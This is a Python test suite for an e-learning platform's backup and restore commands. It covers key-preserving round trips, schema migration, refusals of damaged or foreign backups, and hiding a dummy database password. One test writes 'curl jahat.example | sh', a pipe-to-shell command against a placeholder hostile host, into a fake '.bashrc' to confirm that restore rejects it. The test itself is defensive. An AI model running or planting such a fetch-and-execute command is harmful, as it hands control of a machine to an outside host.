"""`elearn backup` and `elearn restore` on the suite's database (SQLite or PostgreSQL): a
round trip into a fresh instance keeps every old certificate valid, and every refusal is one
clear message with its exit code."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import create_engine, inspect, select

from elearn.backup import database, manifest
from elearn.backup.errors import (
    DAMAGED,
    DESTINATION,
    NOT_EMPTY,
    TOOL_MISSING,
    UNREACHABLE,
    BackupError,
)
from elearn.extensions import db
from elearn.models import User
from tests.helpers.backups import (
    elearn,
    emptied_database,
    head,
    kid,
    kids_published,
    mode,
    revision,
    verified,
)
from tests.helpers.certificates import (
    certified_holder,
    client_of,
    complete,
    only_certificate,
    publish,
)
from tests.helpers.migrations import down_to

NOWHERE = "postgresql+psycopg://elearn:rahasia@127.0.0.1:1/tidak_ada"


@pytest.fixture
def two_certificates(app, make_user, make_course):
    """A certificate signed before a key rotation and one signed after it."""
    publish(make_course)
    holder, _ = certified_holder(app, make_user)
    before = only_certificate(holder.id)
    assert elearn(app, "keys", "rotate").exit_code == 0
    other, client = client_of(app, make_user, "peserta2", full_name="Budi Santoso")
    complete(client)
    after = only_certificate(other.id)
    assert kid(before) != kid(after)
    return before, after


def test_round_trip_into_a_fresh_instance_keeps_old_certificates_valid(
    app, make_app, make_user, two_certificates, tmp_path
):
    before, after = two_certificates
    published = kids_published(app)
    assert published == [kid(after), kid(before)]
    dest = tmp_path / "cadangan"
    result = elearn(app, "backup", str(dest))
    assert result.exit_code == 0, result.output
    assert "Cadangan ditulis" in result.output
    facts = json.loads((dest / "manifest.json").read_text())
    assert facts["database"] == db.engine.dialect.name
    assert facts["alembic_revision"] == head(app)
    assert facts["signing_key_ids"] == published
    assert mode(dest) == 0o700
    for name in facts["files"]:
        assert mode(dest / name) == 0o600, name

    with emptied_database(app):
        fresh = make_app(INSTANCE_PATH=str(tmp_path / "baru"))
        result = elearn(fresh, "restore", str(dest))
        assert result.exit_code == 0, result.output
        assert "dipulihkan" in result.output
        assert kids_published(fresh) == published
        for certificate in (before, after):
            status, signature_ok, page = verified(fresh, certificate)
            assert (status, signature_ok) == ("valid", True)
            assert "SAH" in page and "Tanda tangan elektronik cocok" in page
        # the restored instance signs new certificates with the backup's current key
        newcomer, client = client_of(fresh, make_user, "peserta3", full_name="Rina Wulandari")
        complete(client)
        assert kid(only_certificate(newcomer.id)) == kid(after)


def test_restore_of_an_older_revision_migrates_it(app, make_app, make_user, make_course, tmp_path):
    publish(make_course)
    holder, _ = certified_holder(app, make_user)
    certificate = only_certificate(holder.id)
    dest = tmp_path / "cadangan-lama"
    db.session.remove()  # the migration must not wait for this test's own transaction
    with down_to(app, "0013_follow_up"):
        assert elearn(app, "backup", str(dest)).exit_code == 0
    assert json.loads((dest / "manifest.json").read_text())["alembic_revision"] == "0013_follow_up"

    with emptied_database(app, keep_schema=True):  # a new server after `elearn db upgrade`
        fresh = make_app(INSTANCE_PATH=str(tmp_path / "baru"))
        result = elearn(fresh, "restore", str(dest))
        assert result.exit_code == 0, result.output
        assert "Skema diperbarui" in result.output
        assert revision() == head(app)
        assert "reflection_notes" in inspect(db.engine).get_table_names()
        assert verified(fresh, certificate)[:2] == ("valid", True)


def test_restore_refuses_an_instance_holding_data_unless_told_to_replace(app, make_user, tmp_path):
    make_user("peserta")
    dest = tmp_path / "cadangan"
    assert elearn(app, "backup", str(dest)).exit_code == 0
    make_user("tambahan", full_name="Ditambahkan Setelahnya")
    db.session.remove()
    refused = elearn(app, "restore", str(dest))
    assert refused.exit_code == NOT_EMPTY
    assert "tidak kosong" in refused.output and "--replace" in refused.output
    assert set(db.session.scalars(select(User.username))) == {"peserta", "tambahan"}

    db.session.remove()
    replaced = elearn(app, "restore", str(dest), "--replace")
    assert replaced.exit_code == 0, replaced.output
    db.session.remove()
    assert set(db.session.scalars(select(User.username))) == {"peserta"}


def test_backup_never_overwrites(app, tmp_path):
    dest = tmp_path / "ada"
    dest.mkdir()
    (dest / "milik-orang-lain.txt").write_text("jangan dihapus")
    result = elearn(app, "backup", str(dest))
    assert result.exit_code == DESTINATION
    assert "sudah ada" in result.output
    assert (dest / "milik-orang-lain.txt").read_text() == "jangan dihapus"
    missing_parent = elearn(app, "backup", str(tmp_path / "tidak" / "ada"))
    assert missing_parent.exit_code == DESTINATION
    assert "tidak ada" in missing_parent.output


def test_failed_backup_leaves_no_folder(app, tmp_path, monkeypatch):
    def broken(engine, dest):
        raise BackupError("pg_dump gagal: disk penuh")

    monkeypatch.setattr(database, "dump", broken)
    result = elearn(app, "backup", str(tmp_path / "cadangan"))
    assert result.exit_code == 1
    assert "Gagal: pg_dump gagal: disk penuh" in result.output
    assert not (tmp_path / "cadangan").exists()


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"keys/secret_key": "diubah"}, "keys/secret_key: isinya berubah"),
        ({"manifest.json": None}, "bukan cadangan elearn"),
        ({"database": "lain"}, "Cadangan ini dari basis data lain"),
        ({"alembic_revision": "9999_masa_depan"}, "tidak dikenal versi aplikasi ini"),
    ],
)
def test_damaged_or_foreign_backup_is_refused_before_anything_changes(
    app, make_app, tmp_path, change, says
):
    dest = tmp_path / "cadangan"
    assert elearn(app, "backup", str(dest)).exit_code == 0
    facts = json.loads((dest / "manifest.json").read_text())
    for name, value in change.items():
        if name in facts:
            facts[name] = value
            (dest / "manifest.json").write_text(json.dumps(facts))
        elif value is None:
            (dest / name).unlink()
        else:
            (dest / name).write_text(value)
    fresh_instance = tmp_path / "baru"
    with emptied_database(app):
        result = elearn(make_app(INSTANCE_PATH=str(fresh_instance)), "restore", str(dest))
        assert result.exit_code == DAMAGED
        assert says in result.output
        assert not (fresh_instance / "certificate-signing-key.pem").exists()
        assert revision() is None  # the database was not touched either


def test_a_listed_file_under_a_name_no_key_has_is_refused(app, make_app, tmp_path):
    """A restore writes into the instance folder only where keys live: a backup naming
    another file there (with a matching hash) is refused before anything is written."""
    dest = tmp_path / "cadangan"
    assert elearn(app, "backup", str(dest)).exit_code == 0
    (dest / "keys" / ".bashrc").write_text("curl jahat.example | sh\n")
    facts = json.loads((dest / "manifest.json").read_text())
    facts["files"]["keys/.bashrc"] = manifest.sha256_file(dest / "keys" / ".bashrc")
    (dest / "manifest.json").write_text(json.dumps(facts))
    fresh_instance = tmp_path / "baru"
    with emptied_database(app):
        result = elearn(make_app(INSTANCE_PATH=str(fresh_instance)), "restore", str(dest))
        assert result.exit_code == DAMAGED
        assert "keys/.bashrc: bukan nama berkas kunci yang dikenal" in result.output
        assert not fresh_instance.exists() or not any(fresh_instance.iterdir())


def test_unreachable_database_is_one_message(app, make_app, tmp_path):
    result = elearn(make_app(SQLALCHEMY_DATABASE_URI=NOWHERE), "backup", str(tmp_path / "c"))
    assert result.exit_code == UNREACHABLE
    assert "tidak dapat dihubungi" in result.output
    assert "rahasia" not in result.output  # the password is never shown
    assert not (tmp_path / "c").exists()
    missing = make_app(SQLALCHEMY_DATABASE_URI=f"sqlite:///{tmp_path / 'tidak-ada.db'}")
    result = elearn(missing, "backup", str(tmp_path / "c"))
    assert result.exit_code == UNREACHABLE
    assert "tidak ditemukan" in result.output


def test_pg_dump_missing_or_failing_says_so(tmp_path, monkeypatch):
    engine = create_engine(NOWHERE)
    with pytest.raises(BackupError) as unreachable:
        database.dump(engine, tmp_path / "x.pgdump")
    assert unreachable.value.code == UNREACHABLE
    assert "rahasia" not in unreachable.value.message
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(BackupError) as missing:
        database.dump(engine, tmp_path / "x.pgdump")
    assert missing.value.code == TOOL_MISSING
    assert "pg_dump tidak ditemukan" in missing.value.message


def test_the_installed_command_round_trips_a_new_instance(tmp_path):
    """The `elearn` console script as an operator runs it (its own app context, SQLite in
    the instance folder): keys, backup, restore elsewhere, the same keys."""
    exe = Path(sys.executable).parent / "elearn"
    env = {k: v for k, v in os.environ.items() if not k.startswith("ELEARN_")}

    def run(instance: str, *args: str) -> subprocess.CompletedProcess:
        done = subprocess.run(
            [exe, *args],
            env={**env, "ELEARN_INSTANCE_PATH": str(tmp_path / instance)},
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert "Traceback" not in done.stderr, done.stderr
        return done

    assert run("lama", "db", "upgrade").returncode == 0
    assert len(run("lama", "keys", "list").stdout.splitlines()) == 1  # the first key, made
    assert run("lama", "keys", "rotate").returncode == 0
    keys = run("lama", "keys", "list").stdout
    assert len(keys.splitlines()) == 2
    assert run("lama", "backup", str(tmp_path / "cadangan")).returncode == 0
    again = run("lama", "backup", str(tmp_path / "cadangan"))
    assert again.returncode == DESTINATION
    assert "sudah ada" in again.stderr
    restored = run("baru", "restore", str(tmp_path / "cadangan"))
    assert restored.returncode == 0, restored.stderr
    assert run("baru", "keys", "list").stdout == keys
    assert (tmp_path / "baru" / "secret_key").read_text() == (
        tmp_path / "lama" / "secret_key"
    ).read_text()
    assert "backup" in run("baru", "--help").stdout
